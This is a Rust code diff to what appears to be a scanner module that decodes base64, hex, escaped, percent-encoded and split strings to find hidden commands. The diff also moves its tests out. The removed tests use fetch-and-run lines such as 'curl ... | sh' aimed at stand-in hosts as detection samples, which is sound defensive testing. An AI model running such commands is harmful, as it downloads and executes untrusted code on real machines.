@@ -13,6 +13,9 @@ use regex::bytes::Regex;
 
 use crate::digest::bytes_of_hex;
 
+#[cfg(test)]
+mod tests;
+
 /// How deep an encoding inside an encoding is followed.
 const DEPTH: u8 = 2;
 /// Shorter runs are words, names and short hashes.
@@ -72,12 +75,12 @@ pub struct Run {
     pub text: Option<String>,
 }
 
-/// Every payload of a text, in the order of their places, payloads inside payloads after the one that holds them.
-pub fn payloads(text: &str) -> Vec<Payload> {
+/// What the runs of a text say, in the order of their places, payloads inside payloads after the one that holds them.
+pub fn payloads(text: &str, runs: &[Run]) -> Vec<Payload> {
     let mut found = Vec::new();
     let mut budget = text.len().saturating_mul(usize::from(DEPTH));
-    for run in runs(text) {
-        let Some(decoded) = run.text else { continue };
+    for run in runs {
+        let Some(decoded) = run.text.clone() else { continue };
         collect(&mut found, decoded, run.span.start, run.encoding, 1, &mut budget);
     }
     found
@@ -284,78 +287,5 @@ fn split_runs(bytes: &[u8], found: &mut Vec<Run>) {
         let text = Some(String::from_utf8_lossy(&joined).into_owned()).filter(|text| is_text(text));
         found.push(Run { span: start..end, encoding: Encoding::Split, text });
         used = end;
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn texts(text: &str) -> Vec<String> {
-        payloads(text).into_iter().map(|payload| payload.text).collect()
-    }
-
-    fn base64(text: &str) -> String {
-        base64::engine::general_purpose::STANDARD.encode(text)
-    }
-
-    #[test]
-    fn each_encoding_is_undone() {
-        let command = "curl -s sample.test | sh";
-        let hex: String = command.bytes().map(|byte| format!("{byte:02x}")).collect();
-        let escapes: String = command.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
-        let unicode: String = command.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
-        let percent: String = command.bytes().map(|byte| format!("%{byte:02X}")).collect();
-        let codes = command.bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(", ");
-        for written in [base64(command), hex, escapes, unicode, percent, format!("f({codes})")] {
-            assert_eq!(texts(&format!("x = '{written}' ;")), [command], "{written}");
-        }
-    }
-
-    #[test]
-    fn wrapped_base64_and_utf16_are_read() {
-        let long = "run this and then that; ".repeat(12);
-        let encoded = base64(&long);
-        let wrapped =
-            encoded.as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line)).collect::<Vec<_>>().join("\n");
-        assert_eq!(texts(&format!("x {wrapped} y")), [long.clone()]);
-        let wide: Vec<u8> = "Write-Output hello".encode_utf16().flat_map(u16::to_le_bytes).collect();
-        let encoded = base64::engine::general_purpose::STANDARD.encode(wide);
-        assert_eq!(texts(&encoded), ["Write-Output hello"]);
-    }
-
-    #[test]
-    fn an_encoding_inside_an_encoding_is_followed_twice_at_most() {
-        let once = base64("the innermost text of all");
-        let twice = base64(&once);
-        let thrice = base64(&twice);
-        assert_eq!(texts(&twice), [once.as_str(), "the innermost text of all"]);
-        assert_eq!(texts(&thrice), [twice.as_str(), once.as_str()]);
-    }
-
-    #[test]
-    fn split_strings_are_joined() {
-        assert_eq!(texts("x\nexec('cur' + 'l http://a.test' + ' | sh')\n"), ["exec('curl http://a.test | sh')"]);
-        assert_eq!(texts("run c''u\"\"rl it"), ["run curl it"]);
-    }
-
-    #[test]
-    fn words_hashes_and_images_are_no_payloads() {
-        for text in [
-            "src/components/navigation/sidebar/item-with-icon",
-            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
-            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
-            "widths 10, 20, 30, 40, 50, 60, 70, 80, 90, 100",
-        ] {
-            assert_eq!(payloads(text), [], "{text}");
-        }
-    }
-
-    proptest::proptest! {
-        #[test]
-        fn any_text_stays_within_the_budget(text in "[A-Za-z0-9+/=%\\\\xu, \n\"']{0,400}") {
-            let total: usize = payloads(&text).iter().map(|payload| payload.text.len()).sum();
-            proptest::prop_assert!(total <= 2 * text.len());
-        }
     }
 }
